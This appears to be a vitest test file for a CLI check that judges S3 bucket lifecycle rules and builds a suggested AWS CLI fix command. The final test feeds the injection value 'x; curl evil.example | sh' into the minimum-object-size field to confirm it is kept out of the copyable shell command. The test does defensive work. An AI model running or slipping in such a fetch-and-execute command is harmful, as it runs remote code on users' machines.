import type { LifecycleRule } from '@aws-sdk/client-s3'
import { expect, it } from 'vitest'
import { judgeLifecycle } from '../../../src/cli/doctor/lifecycle.js'

const aws = { isAws: true, command: (name: string, rest?: string) => `${name} ${rest}` }
const options = { prefix: 'media/', isVersioned: false }
const ABORT: LifecycleRule = {
  ID: 'a',
  Status: 'Enabled',
  Filter: { Prefix: '' },
  AbortIncompleteMultipartUpload: { DaysAfterInitiation: 1 },
}
const tier = (rule: Partial<LifecycleRule>): LifecycleRule => ({
  ID: 't',
  Status: 'Enabled',
  Transitions: [{ Days: 0, StorageClass: 'INTELLIGENT_TIERING' }],
  ...rule,
})

it('judgeLifecycle proposes both rules for AWS, in one configuration', () => {
  const { severity, finding, fix } = judgeLifecycle(aws, { ...options, rules: [] })
  expect({ severity, finding }).toEqual({
    severity: 'note',
    finding: 'No rule removes uploads that were never completed, none moves objects to a cheaper storage class',
  })
  expect(fix?.lifecycle?.Rules).toEqual([
    {
      ID: 'abort-multipart',
      Status: 'Enabled',
      Filter: { Prefix: '' },
      AbortIncompleteMultipartUpload: { DaysAfterInitiation: 7 },
    },
    {
      ID: 'intelligent-tiering',
      Status: 'Enabled',
      Filter: { Prefix: 'media/' },
      Transitions: [{ Days: 0, StorageClass: 'INTELLIGENT_TIERING' }],
    },
  ])
})

it.each<[string, LifecycleRule]>([
  ['without a filter', tier({})],
  ['with a prefix above', tier({ Filter: { Prefix: 'me' } })],
  ['with a prefix beside a filter of both', tier({ Filter: { And: { Prefix: 'media/' } } })],
  ['of the old form', tier({ Prefix: 'media/' })],
])('judgeLifecycle is content with rules %s', (_name, rule) => {
  expect(judgeLifecycle(aws, { ...options, rules: [ABORT, rule] })).toEqual({
    severity: 'ok',
    finding: 'All rules are there',
  })
})

it.each<[string, LifecycleRule]>([
  ['switched off', tier({ Status: 'Disabled' })],
  ['for another prefix', tier({ Filter: { Prefix: 'media/other/' } })],
  ['for a tag', tier({ Filter: { Tag: { Key: 'a', Value: 'b' } } })],
  ['for a size', tier({ Filter: { And: { Prefix: '', ObjectSizeGreaterThan: 1 } } })],
  ['without a transition', { ID: 'n', Status: 'Enabled', Filter: { Prefix: '' } }],
])('judgeLifecycle counts a rule for nothing that is %s, and keeps it', (_name, rule) => {
  const { finding, fix } = judgeLifecycle(aws, { ...options, rules: [ABORT, rule] })
  expect(finding).toBe('No rule moves objects to a cheaper storage class')
  expect(fix?.lifecycle?.Rules.slice(0, 2)).toEqual([ABORT, rule])
})

it('judgeLifecycle brings rules of the old form into the new one: AWS refuses both in one configuration', () => {
  const old: LifecycleRule = { ID: 'o', Status: 'Enabled', Prefix: 'logs/', Expiration: { Days: 1 } }
  const { fix } = judgeLifecycle(aws, { ...options, rules: [old] })
  expect(fix?.lifecycle?.Rules[0]).toEqual({
    ID: 'o',
    Status: 'Enabled',
    Filter: { Prefix: 'logs/' },
    Expiration: { Days: 1 },
  })
  // Some stores answer in both forms at once.
  const both: LifecycleRule = { ...old, Filter: { Prefix: 'logs/' } }
  expect(judgeLifecycle(aws, { ...options, rules: [both] }).fix?.lifecycle?.Rules[0]).not.toHaveProperty('Prefix')
})

it('judgeLifecycle gives its rules ids that no other rule has: a store refuses two of one id', () => {
  const rules = ['intelligent-tiering', 'intelligent-tiering-2'].map((ID) => tier({ ID, Filter: { Prefix: 'other/' } }))
  const { fix } = judgeLifecycle(aws, { ...options, rules: [ABORT, ...rules] })
  const ids = fix?.lifecycle?.Rules.map(({ ID }) => ID)
  expect(ids).toEqual(['a', 'intelligent-tiering', 'intelligent-tiering-2', 'intelligent-tiering-3'])
})

it('judgeLifecycle reports when objects expire', () => {
  const expiring = (days: number): LifecycleRule => ({ ...tier({}), Expiration: { Days: days } })
  const { finding } = judgeLifecycle(aws, { ...options, rules: [ABORT, expiring(90), expiring(30)] })
  expect(finding).toBe('All rules are there; objects expire after 30 days')
})

it('judgeLifecycle says that older versions are gone after a day, where its rule is what removes them', () => {
  const advice = (isVersioned: boolean) => judgeLifecycle(aws, { ...options, isVersioned, rules: [] }).fix?.advice
  expect(advice(true)).toMatch(
    /are in it\. Older versions are then gone after a day: where they are your safety net, set more NoncurrentDays$/,
  )
  expect(advice(false)).not.toContain('NoncurrentDays')
  const removing: LifecycleRule = { ID: 'v', Status: 'Enabled', NoncurrentVersionExpiration: { NoncurrentDays: 30 } }
  expect(judgeLifecycle(aws, { ...options, isVersioned: true, rules: [removing] }).fix?.advice).not.toContain('gone')
})

it.each([
  ['varies_by_storage_class', ' --transition-default-minimum-object-size varies_by_storage_class'],
  ['all_storage_classes_128K', ' --transition-default-minimum-object-size all_storage_classes_128K'],
  [undefined, ''],
  // It goes into a command that people copy into a shell.
  ['x; curl evil.example | sh', ''],
])('judgeLifecycle keeps the smallest size for transitions that the bucket has: %s', (minimumObjectSize, more) => {
  const { fix } = judgeLifecycle(aws, { ...options, rules: [], minimumObjectSize })
  expect(fix?.command).toBe(`put-bucket-lifecycle-configuration --lifecycle-configuration file://lifecycle.json${more}`)
})
